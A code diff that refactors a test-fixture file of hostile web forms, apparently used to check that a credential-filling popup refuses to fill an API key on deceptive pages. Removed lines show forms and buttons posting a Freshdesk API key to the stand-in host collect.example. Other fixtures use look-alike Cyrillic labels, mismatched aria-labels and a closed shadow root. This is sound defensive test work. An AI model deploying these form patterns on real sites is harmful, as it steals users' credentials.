@@ -1,18 +1,10 @@
+import { sentElsewhere } from './forms-sent-elsewhere.ts';
+import { form, type HostileForm, refused } from './hostile-form.ts';
 import { html, type Markup } from './markup.ts';
-import { input, type PlatformForm, page, row, surroundings } from './platform-page.ts';
+import { input, page, row, surroundings } from './platform-page.ts';
 import { rename, shade } from './platform-script.ts';
+import { unseenNames } from './unseen-names.ts';
 
-/** A page on which nothing may be filled, or nothing but what says that it wants something. */
-export interface HostileForm extends PlatformForm {
-  /** A part of what the popup says about it. */
-  readonly says: string;
-  /** Whether the popup offers to fill it all the same, and leaves the hostile part. */
-  readonly offered: boolean;
-  /** Whether it is served without TLS. */
-  readonly plain?: true;
-}
-
-const host = 'connect.platform.example';
 const unseen = 'that cannot be seen';
 
 export const hostileForms: readonly HostileForm[] = [
@@ -83,6 +75,7 @@ export const hostileForms: readonly HostileForm[] = [
     html`<label for="key">Public comment</label>${input('key', undefined, html`aria-label="API key"`)}`,
     'two names',
   ),
+  ...unseenNames,
   refused('letters of another script', row('АРI Кеу', 'key'), 'No API key here'),
   refused('a stranger’s key', row('OpenAI API key', 'key'), 'No API key here'),
   refused(
@@ -95,48 +88,7 @@ export const hostileForms: readonly HostileForm[] = [
     html`<div id="closed"></div><script>document.querySelector('#closed').attachShadow({mode:'closed'}).innerHTML='<label>API key <input></label>'</script>`,
     'No API key here',
   ),
-  {
-    ...refused('sent to another site', html``, 'to another site than'),
-    page: form('https://collect.example/', html``),
-  },
-  {
-    ...refused('sent to another site by its button', html``, 'to another site than'),
-    page: form('/', html`<button formaction="https://collect.example/">Save</button>`),
-  },
-  ...[
-    {
-      name: 'sent to another site by the form that it belongs to',
-      markup: html`<form><h1>Freshdesk</h1>${row('API key', 'key', undefined, html`form="out"`)}</form>
-<form id="out" action="https://collect.example/"><input name="getAttribute"><input name="baseURI"><button>Save</button></form>`,
-    },
-    {
-      name: 'sent to another site by a button elsewhere',
-      markup: html`<form id="here"><h1>Freshdesk</h1>${row('API key', 'key')}</form>
-<button form="here" formaction="https://collect.example/">Save</button>`,
-    },
-    {
-      name: 'sent to another site by an image elsewhere',
-      markup: html`<form id="here"><h1>Freshdesk</h1>${row('API key', 'key')}</form>
-<input type="image" alt="Save" form="here" formaction="https://collect.example/">`,
-    },
-    {
-      name: 'sent to another site by a button of the form that it belongs to',
-      markup: html`<form><h1>Freshdesk</h1>${row('API key', 'key', undefined, html`form="out"`)}</form><form id="out"></form>
-<input type="submit" form="out" formaction="https://collect.example/">`,
-    },
-    {
-      name: 'sent to another site by a form whose fields are called as what it is asked for',
-      markup: html`<form action="https://collect.example/"><h1>Freshdesk</h1>${row('API key', 'key')}
-<input name="action" value="/"><input name="elements"><input name="getAttribute"><input name="querySelectorAll"></form>`,
-    },
-    {
-      name: 'sent to another site out of a shadow root in a dialog',
-      markup: html`<div role="dialog"><h1>Freshdesk</h1><shadow-part><template data-root><form action="https://collect.example/">${row('API key', 'key')}</form></template></shadow-part></div>`,
-    },
-  ].map(({ name, markup }) => ({
-    ...refused(name, html``, 'to another site than'),
-    page: page({ title: 'Freshdesk', body: markup, script: shade }),
-  })),
+  ...sentElsewhere,
   {
     ...refused('a frame of another site', html``, 'comes from other.example'),
     page: framed('https://other.example/inner-elsewhere'),
@@ -186,27 +138,6 @@ ${row('Name', 'n5')}${row('Name', 'n6')}${row('User name', 'u7')}${row('Card num
     }),
   },
 ];
-
-function refused(name: string, fields: Markup, says: string): HostileForm {
-  return {
-    name,
-    host,
-    vendor: 'freshdesk',
-    says,
-    offered: false,
-    page: page({
-      title: 'Freshdesk',
-      body: html`${surroundings}<main><h1>Connect Freshdesk</h1>${fields}${row('Tag', 'tag')}</main>`,
-    }),
-  };
-}
-
-function form(action: string, more: Markup): Markup {
-  return page({
-    title: 'Freshdesk',
-    body: html`<form action="${action}"><h1>Freshdesk</h1>${row('Subdomain', 'sub')}${row('API key', 'key')}${more}</form>`,
-  });
-}
 
 function framed(src: string): Markup {
   return page({
